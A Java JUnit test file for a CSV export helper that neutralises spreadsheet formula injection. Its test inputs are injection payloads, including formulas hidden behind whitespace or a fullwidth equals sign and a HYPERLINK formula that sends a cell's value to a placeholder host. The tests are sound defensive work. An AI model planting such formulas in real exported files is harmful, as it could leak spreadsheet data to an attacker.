package id.simpul.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+62811",
                "-1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00A0=1+1",
                "\uFF1D1+1",
                "=HYPERLINK(\"http://x/\"&A1)"
            })
    void noCellIsCalculated(String text) {
        assertThat(Csv.safe(text)).isEqualTo("'" + text);
    }

    @Test
    void everythingElseStaysAsItIs() {
        assertThat(Csv.safe("Rumah Sakit = baik")).isEqualTo("Rumah Sakit = baik");
        assertThat(Csv.safe("400.8/77-Dukcapil")).isEqualTo("400.8/77-Dukcapil");
        assertThat(Csv.safe("")).isEmpty();
        assertThat(Csv.safe(null)).isEmpty();
        assertThat(Csv.safe(12)).isEqualTo("12");
    }

    @Test
    void cellsMayHoldWhateverSeparatesThem() throws IOException {
        var out = new ByteArrayOutputStream();
        var csv = new Csv(out);
        csv.row("a,b", "say \"no\"", "two\nlines");
        csv.row(null, "=1", 3);
        csv.flush();
        assertThat(out.toString(StandardCharsets.UTF_8))
                .isEqualTo("\uFEFF\"a,b\",\"say \"\"no\"\"\",\"two\nlines\"\r\n,'=1,3\r\n");
    }
}
